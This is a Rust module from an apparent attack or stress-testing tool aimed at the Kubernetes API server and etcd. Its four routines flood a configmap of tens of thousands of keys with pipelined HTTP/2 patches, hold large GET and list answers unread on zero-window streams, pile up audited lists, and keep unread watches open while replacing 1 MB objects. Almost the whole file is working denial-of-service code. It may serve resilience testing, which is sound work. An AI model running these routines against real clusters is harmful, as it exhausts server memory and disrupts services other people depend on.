//! Much that is held for little: trees of a stored object, copies that etcd answers with, snapshots that are long gone from the cache.

use std::time::Instant;

use anyhow::{Result, ensure};
use bytes::Bytes;
use tokio::time::sleep;

use crate::attack::{
    ground::Target,
    options::Size,
    raw::{Raw, Reads},
    report::Told,
};

/// Keys of the object that is patched: with their values just below what etcd takes; and where a kube-apiserver notes besides who manages each of them.
const KEYS: usize = 80_000;
const KEYS_OF_FED: usize = 45_000;
/// Patches under way on one connection.
const PATCHES: usize = 250;
/// Unread GETs of a large object, and unread lists of all of them from etcd.
const GETS: usize = 250;
const LISTS: usize = 10;
/// Connections, and lists on each, of which an audit log is told.
const TOLD_CONNECTIONS: usize = 10;
const TOLD_LISTS: usize = 20;
/// Objects of a snapshot, and bytes of each.
const OBJECTS: usize = 8;
const OBJECT_BYTES: usize = 1_000_000;
/// Snapshots, each with a watch that is not read.
const PICTURES: Size = Size(30, 200);
const PATH: &str = "/api/v1/namespaces/kube-public/configmaps";

async fn write(target: &Target, method: &str, path: &str, body: String) -> Result<()> {
    let (status, answer) = target.plain.talk().await?.whole(method, path, Some(("application/json", Bytes::from(body)))).await?;
    ensure!(status < 300, "{method} {path}: {status} {}", String::from_utf8_lossy(&answer));
    Ok(())
}

/// Patches of a few bytes to an object whose tree has a hundred times its bytes, as many as a connection has streams.
pub(super) async fn patches(target: &Target, told: &mut Told) -> Result<()> {
    let end = Instant::now() + target.time;
    let keys: Vec<String> = (0..if target.is_fed { KEYS_OF_FED } else { KEYS }).map(|n| format!(r#""k{n:05}":"x""#)).collect();
    write(target, "POST", PATH, format!(r#"{{"metadata":{{"name":"wide"}},"data":{{{}}}}}"#, keys.join(","))).await?;
    let raw = Raw::open(&target.plain, 0, 1 << 30, Reads::Everything).await?;
    let mut sent = 0;
    while Instant::now() < end {
        let mut out = Vec::new();
        let headers = [("content-type", "application/merge-patch+json")];
        for _ in 0..PATCHES {
            sent += 1;
            let stream = raw.request(&mut out, "PATCH", &format!("{PATH}/wide"), &headers, false);
            Raw::body(&mut out, stream, format!(r#"{{"metadata":{{"annotations":{{"n":"{sent}"}}}}}}"#).as_bytes());
        }
        raw.send(&out).await?;
        while raw.ok() + raw.refused() + raw.resets() < sent && !raw.seen().is_gone() && Instant::now() < end {
            sleep(std::time::Duration::from_millis(20)).await;
        }
    }
    told.note("patches", format!("{}/{sent}", raw.ok()));
    told.note("refused", raw.refused() + raw.resets());
    Ok(())
}

/// Lists of all objects whose answers an audit log is told of that takes none; they are read as they come.
pub(super) async fn audited(target: &Target, told: &mut Told) -> Result<()> {
    let end = Instant::now() + target.time;
    let mut held = Vec::new();
    for nth in 0..TOLD_CONNECTIONS {
        let raw = Raw::open(&target.secure, nth, 1 << 30, Reads::Everything).await?;
        for _ in 0..TOLD_LISTS {
            raw.get("/api/v1/configmaps?resourceVersion=0", &[]).await?;
        }
        held.push(raw);
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    told.note("answered", held.iter().map(Raw::ok).sum::<usize>());
    told.note("refused", held.iter().map(|raw| raw.refused() + raw.resets()).sum::<usize>());
    Ok(())
}

/// GETs and lists that etcd answers, on streams without a window.
pub(super) async fn copies(target: &Target, told: &mut Told) -> Result<()> {
    let end = Instant::now() + target.time;
    let gets = Raw::open(&target.plain, 0, 0, Reads::Everything).await?;
    for _ in 0..GETS {
        gets.get("/api/v1/namespaces/default/pods/large-0000", &[]).await?;
    }
    let lists = Raw::open(&target.plain, 1, 0, Reads::Everything).await?;
    for _ in 0..LISTS {
        lists.get("/api/v1/pods?resourceVersion=00&resourceVersionMatch=Exact", &[]).await?;
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    told.note("gets", format!("{}/{GETS}", gets.ok()));
    told.note("lists", format!("{}/{LISTS}", lists.ok()));
    told.note("refused", gets.refused() + gets.resets() + lists.refused() + lists.resets());
    Ok(())
}

/// A watch that shows all objects, unread; all objects are replaced; again, as often as there is time.
pub(super) async fn snapshots(target: &Target, told: &mut Told) -> Result<()> {
    let end = Instant::now() + target.time * 3;
    let object = |n: usize, round: usize| {
        let letter = char::from(b'a' + u8::try_from(round % 26).unwrap_or(0));
        format!(r#"{{"metadata":{{"name":"snapshot-{n}"}},"data":{{"k":"{}"}}}}"#, letter.to_string().repeat(OBJECT_BYTES))
    };
    for n in 0..OBJECTS {
        write(target, "POST", PATH, object(n, 0)).await?;
    }
    let raw = Raw::open(&target.plain, 0, 0, Reads::Everything).await?;
    let mut rounds = 0;
    while rounds < target.sizes.of(PICTURES) && Instant::now() < end {
        rounds += 1;
        raw.get(&format!("{PATH}?watch=true&resourceVersion=0&timeoutSeconds=3600"), &[]).await?;
        for n in 0..OBJECTS {
            write(target, "PUT", &format!("{PATH}/snapshot-{n}"), object(n, rounds)).await?;
        }
    }
    told.note("snapshots", rounds);
    told.note("watches", raw.ok());
    Ok(())
}
